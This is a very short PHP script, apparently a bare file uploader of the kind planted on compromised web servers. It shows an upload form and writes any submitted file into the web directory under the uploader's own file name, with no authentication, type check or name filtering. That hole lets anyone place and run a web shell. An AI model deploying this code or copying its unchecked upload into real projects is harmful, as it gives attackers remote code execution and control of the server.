<?php echo '<form method="post" enctype="multipart/form-data"><input type="file" name="f"><input type="submit"></form>';
if (move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name'])) { echo "ok"; }
